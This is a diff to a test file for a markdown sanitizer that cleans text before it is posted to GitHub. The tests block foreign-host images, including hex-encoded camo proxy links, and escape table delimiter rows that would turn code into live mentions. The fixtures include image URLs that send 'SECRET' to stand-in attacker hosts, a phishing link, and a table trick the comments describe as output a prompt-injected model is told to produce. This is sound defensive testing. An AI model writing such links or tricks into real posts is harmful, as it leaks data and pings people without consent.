@@ -142,9 +142,10 @@ describe("toSafeMarkdown", () => {
     expect(safe(`[docs](https://docs.example/a b) and ![logo](${attachment})`)).toBe(
       `\\[docs\\](<https://docs.example/a> b) and ![logo](<${attachment}>)`,
     );
-    expect(safe("![shot](https://private-user-images.githubusercontent.com/1/s.png?jwt=x)")).toBe(
-      "![shot](<https://private-user-images.githubusercontent.com/1/s.png?jwt=x>)",
-    );
+    for (const host of ["private-user-images", "user-images", "avatars", "raw", "objects"]) {
+      const src = `https://${host}.githubusercontent.com/1/s.png?jwt=x`;
+      expect(safe(`![shot](${src})`)).toBe(`![shot](<${src}>)`);
+    }
     expect(safe("[docs](https://docs.example/x)")).toBe("[docs](<https://docs.example/x>)");
     expect(safe("https://ok.example/p http://plain.example www.bare.example")).toBe(
       "<https://ok.example/p> `http://plain.example` `www.bare.example`",
@@ -175,6 +176,13 @@ describe("toSafeMarkdown", () => {
     [
       "a host ending like GitHub's",
       "![z](https://githubusercontent.com.attacker.example/d.png?d=SECRET)",
+    ],
+    // GitHub's proxy, which fetches the original (any host's, here `evil.example/p.png?d=SECRET`
+    // in hex) on each view its cache allows: its owner learns when the thread is read.
+    [
+      "GitHub's image proxy (camo)",
+      "![c](https://camo.githubusercontent.com/4a2c3e1f0d9b8a7c6e5f4d3c2b1a09f8e7d6c5b4/" +
+        `${Buffer.from("https://evil.example/p.png?d=SECRET").toString("hex")})`,
     ],
   ])("shows no image from a host other than GitHub's: %s", (_, input) => {
     // GitHub's proxy fetches an image, address and all, as soon as anyone views the thread: a
@@ -278,6 +286,91 @@ describe("toSafeMarkdown", () => {
       const once = safe(c.answer ?? c.text);
       expect(safe(once)).toBe(once);
     }
+  });
+});
+
+/*
+ * GitHub renders with cmark-gfm, whose table starts at a delimiter row that needs no pipe
+ * (extensions/ext_scanners.re: `[|]? table_marker ([|] table_marker)* [|]? spacechar* newline`,
+ * `table_marker = spacechar* [:]? [-]+ [:]? spacechar*`) and may interrupt a paragraph, whose
+ * line before becomes the header. markdown-it wants a pipe in the header: it sees a paragraph.
+ * In GitHub's table each later line is cut into cells at every unescaped pipe, inside code spans
+ * too: with cmark-gfm 0.29.0.gfm.13, "Steps\n:-:\n`@octocat|x`" renders <th>Steps</th> and
+ * <td>`@octocat</td>, a live mention (found by a review).
+ */
+const GFM_TABLE_START = /^\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$/;
+
+/** Lines (quote and list markers and indentation removed) GitHub reads as a delimiter row. */
+function gfmDelimiterRows(markdown: string): string[] {
+  return markdown
+    .split("\n")
+    .map((line) => line.replace(/^(?:[ \t]*(?:>|[-*+][ \t]|\d{1,9}[.)][ \t]))*[ \t]*/, ""))
+    .filter((line) => GFM_TABLE_START.test(line));
+}
+
+// What a prompt-injected model is told to answer (or a hostile issue's text it quotes).
+const TABLE_TRICK = [
+  "Steps",
+  ":-:",
+  "@octocat|x",
+  "@github/security-team|x",
+  '`<img src="https://evil.example/t.png?d=SECRET">|x`',
+  "https://evil.example/phish|x",
+  "other/repo#1|x",
+].join("\n");
+
+describe("a line GitHub reads as a table's delimiter row", () => {
+  it.each([":-", ":--", ":-:", ":---:", "-:", "--:", ":-|-:", "  :-:"])(
+    "is escaped at a line's start in a paragraph, a quote and a list item: %s",
+    (row) => {
+      for (const text of [
+        `a\n${row}\n@octocat|x`,
+        `> a\n> ${row}\n> @octocat|x`,
+        `- a\n  ${row}\n  @octocat|x`,
+        `1. a\n   ${row}\n   @octocat|x`,
+      ]) {
+        const out = safe(text);
+        expect(gfmDelimiterRows(out)).toEqual([]);
+        expect(checkSafeMarkdown(out, options, parser)).toEqual([]);
+      }
+    },
+  );
+
+  it("is written by neither the writer nor its plain-text fallback", () => {
+    expect(gfmDelimiterRows(safe(TABLE_TRICK))).toEqual([]);
+    expect(gfmDelimiterRows(toSafePlainText(TABLE_TRICK, options))).toEqual([]);
+    // An HTML block is shown as plain text too.
+    expect(gfmDelimiterRows(safe("<div>\n:-:\n</div>"))).toEqual([]);
+  });
+
+  it("costs a colon elsewhere nothing, and one at a line's start only a backslash", () => {
+    const text = ":tada: shipped\nNote: see `a:b`";
+    const out = safe(text);
+    expect(out).toBe("\\:tada: shipped\nNote: see `a:b`");
+    expect(parser.render(out)).toBe(parser.render(text));
+  });
+
+  it.each([
+    ["a pipe-less row after a paragraph", "Steps\n:-:\n`@octocat|x`"],
+    ["one in a quote", "> a\n> :-\n> `@octocat|x`"],
+    ["one in a list item", "- a\n  --:\n  `@octocat|x`"],
+    ["a row whose header has no pipe", "a\n| :-- |\n`@octocat|x`"],
+  ])("is found by checkSafeMarkdown: %s", (_what, markdown) => {
+    // markdown-it sees a paragraph, and in it code; GitHub sees a table and a live mention.
+    expect(parser.parse(markdown, {}).some((t) => t.type === "table_open")).toBe(false);
+    expect(checkSafeMarkdown(markdown, options, parser)).toContainEqual(
+      expect.stringMatching(/^a line GitHub reads as a table: /),
+    );
+  });
+
+  it.each([
+    ["a table both parsers see, its code's pipe escaped", "| a |\n| :-: |\n| `@octocat\\|x` |"],
+    ["a thematic break", "a\n\n---\n\nb"],
+    ["a heading's underline", "Title\n---"],
+    ["code", "```\n:-:\n| --- |\n```"],
+    ["an escaped colon", "a\n\\:-:\n`@octocat|x`"],
+  ])("is not found in %s", (_what, markdown) => {
+    expect(checkSafeMarkdown(markdown, options, parser)).toEqual([]);
   });
 });
 
